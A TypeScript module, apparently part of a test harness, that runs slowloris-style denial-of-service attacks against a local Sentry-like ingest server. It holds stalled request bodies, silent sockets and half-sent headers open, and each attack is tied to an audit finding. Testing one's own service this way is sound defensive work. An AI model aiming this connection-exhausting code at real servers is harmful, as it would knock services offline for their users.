import { connect, type Socket } from 'node:net'
import { type Attack, ingestPath, pause, type SiegeWorld, type Tally } from './attack.ts'

/* Connections that are opened and held. Loopback has many addresses: each socket comes from one of a few. */

const ADDRESSES = 4
const BODY_BYTES = 2 * 1024 * 1024
const STALLED = 60
const SILENT = 2_100

/** Opens sockets and keeps so many open; `greet` says what each of them sends first. */
async function hold(
  { url }: SiegeWorld,
  { count, greet }: { count: number; greet: (n: number) => (string | Buffer)[] },
  stop: AbortSignal,
): Promise<Tally> {
  const { hostname, port } = new URL(url)
  const open = new Set<Socket>()
  const tally: Tally = new Map()
  let opened = 0
  while (!stop.aborted) {
    for (let burst = 0; burst < 200 && open.size < count; burst++) {
      const localAddress = `127.0.0.${2 + (opened % ADDRESSES)}`
      const socket = connect({ host: hostname, port: Number(port), localAddress })
      open.add(socket)
      for (const part of greet(opened++)) socket.write(part)
      socket.once('data', (answer) => {
        const status = Number(answer.toString('latin1', 9, 12))
        tally.set(status, (tally.get(status) ?? 0) + 1)
      })
      socket.on('error', () => {})
      socket.once('close', () => open.delete(socket))
    }
    await pause(50)
  }
  for (const socket of open) socket.destroy()
  return tally
}

const head = (path: string, lines: string[]): string =>
  [`POST ${path} HTTP/1.1`, 'Host: 127.0.0.1', ...lines, '', ''].join('\r\n')

/** Everything but the last byte of a body, from senders that nobody knows. */
const stalledBodies: Attack = {
  name: 'stalled-bodies',
  finding: 'S5',
  play(world, stop) {
    const { project } = world.attacker
    const unknown = 'f'.repeat(32)
    const most = Buffer.alloc(BODY_BYTES - 1, ' ')
    const length = `Content-Length: ${BODY_BYTES}`
    const greetings: ((n: number) => (string | Buffer)[])[] = [
      () => [head(`/api/${project.number}/envelope/`, [length]), most],
      () => [head(`/api/${project.number}/store/?sentry_key=${unknown}`, [length]), most],
      () => [head(`/api/${project.number}/envelope/`, ['Transfer-Encoding: chunked']), '1fffff\r\n', most],
      () => [head(`/api/${project.number}/envelope/`, [length]), '{"dsn":"https://', most.subarray(20)],
      () => [head(ingestPath('store', project), [length]), most.subarray(0, 1000)],
    ]
    return hold(world, { count: STALLED, greet: (n) => greetings[n % greetings.length]!(n) }, stop)
  },
}

const silentSockets: Attack = {
  name: 'silent-sockets',
  finding: 'S13',
  play: (world, stop) => hold(world, { count: SILENT, greet: () => [] }, stop),
}

const halfHeaders: Attack = {
  name: 'half-headers',
  finding: 'S13',
  play: (world, stop) =>
    hold(
      world,
      { count: SILENT, greet: () => ['GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: '] },
      stop,
    ),
}

export const SOCKETS: readonly Attack[] = [stalledBodies, silentSockets, halfHeaders]
